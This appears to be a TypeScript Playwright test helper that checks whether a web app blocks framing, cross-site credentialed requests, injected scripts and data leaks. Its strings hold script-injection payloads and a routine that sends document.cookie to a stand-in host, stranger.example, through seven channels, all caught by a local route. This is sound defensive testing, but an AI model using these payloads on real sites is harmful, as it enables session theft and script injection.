import type { Page } from 'playwright';
import type { ProtectionAbility } from '../abilities/security';
import { somewhere } from './browser-account';

const stranger = 'http://stranger.example';

/** What somebody who could write into a page would try; each leaves a mark when it runs. Texts, as a stranger would bring them. */
const slippedIn = `
  const tries = [
    () => { const script = document.createElement('script'); script.textContent = 'window.marked = true'; document.head.append(script); },
    () => { const script = document.createElement('script'); script.src = '${stranger}/script.js'; document.head.append(script); },
    () => { document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.marked = true">'); },
    () => { const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.marked = true</script>'; document.body.append(frame); },
    () => { const link = document.createElement('a'); link.href = 'javascript:window.marked = true'; document.body.append(link); link.click(); },
    () => { const button = document.createElement('button'); button.setAttribute('onclick', 'window.marked = true'); document.body.append(button); button.click(); },
    () => { setTimeout('window.marked = true'); },
  ];
  for (const attempt of tries) setTimeout(() => { try { attempt(); } catch { /* Refused at once. */ } });
`;

const telling = `
  const token = encodeURIComponent(document.cookie);
  const tries = [
    () => fetch('${stranger}/told?' + token, { mode: 'no-cors' }),
    () => navigator.sendBeacon('${stranger}/told', token),
    () => { new Image().src = '${stranger}/told?' + token; },
    () => { const frame = document.createElement('iframe'); frame.src = '${stranger}/told?' + token; document.body.append(frame); },
    () => { const form = document.createElement('form'); form.action = '${stranger}/told'; document.body.append(form); form.submit(); },
    () => new WebSocket('ws://stranger.example/told?' + token),
    () => { const style = document.createElement('style'); style.textContent = 'body { background: url(${stranger}/told?' + token + ') }'; document.head.append(style); },
  ];
  for (const attempt of tries) setTimeout(() => Promise.resolve().then(attempt).catch(() => undefined));
`;

export function browserProtection(page: Page): ProtectionAbility {
  const heard: string[] = [];
  const home = async () => {
    await somewhere(page);
    return JSON.parse((await page.locator('#environment').textContent())!) as {
      readonly hosts: { readonly rest: string };
    };
  };
  const openStranger = async (body: string): Promise<Page> => {
    const other = await page.context().newPage();
    await other.route(`${stranger}/`, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>Stranger</title>${body}` }),
    );
    await other.goto(`${stranger}/`);
    return other;
  };
  const listen = () =>
    page.route(`${stranger}/**`, (route) => {
      heard.push(route.request().url());
      return route.fulfill({ contentType: 'text/javascript', body: 'window.marked = true' });
    });
  return {
    async openFramingSite() {
      await somewhere(page);
      const other = await openStranger(`<iframe src="${new URL('/markets', page.url()).href}"></iframe>`);
      const frame = other.frames()[1];
      await frame?.waitForLoadState();
      const seen =
        (await frame
          ?.locator('main')
          .count()
          .catch(() => 0)) ?? 0;
      await other.close();
      return seen > 0;
    },
    async openActingSite() {
      const { rest } = (await home()).hosts;
      const other = await openStranger('');
      const statuses = await other.evaluate(async (host) => {
        const calls = [
          ['DELETE', '/auth/session'],
          ['POST', '/auth/refresh'],
          ['GET', '/usercenter/account'],
          ['POST', '/auth/session'],
        ] as const;
        const read: string[] = [];
        for (const [method, path] of calls) {
          await fetch(host + path, { method, credentials: 'include' })
            .then((answer) => read.push(`${path} ${answer.status}`))
            .catch(() => undefined);
          await fetch(host + path, {
            method: method === 'GET' ? 'GET' : 'POST',
            credentials: 'include',
            mode: 'no-cors',
          }).catch(() => undefined);
        }
        return read;
      }, rest);
      await other.close();
      return statuses;
    },
    async slipIn() {
      await somewhere(page);
      await listen();
      await page.evaluate(slippedIn);
      // Whatever runs at once or after a moment has run by then.
      await page.evaluate(() => new Promise((resolve) => setTimeout(() => requestIdleCallback(resolve))));
    },
    async slipOut() {
      await somewhere(page);
      await listen();
      await page.evaluate(telling);
      await page.evaluate(() => new Promise((resolve) => setTimeout(() => requestIdleCallback(resolve))));
    },
    somethingRan: async () => (await page.evaluate(() => 'marked' in window)) || heard.length > 0,
    strangerHeard: async () => heard,
  };
}
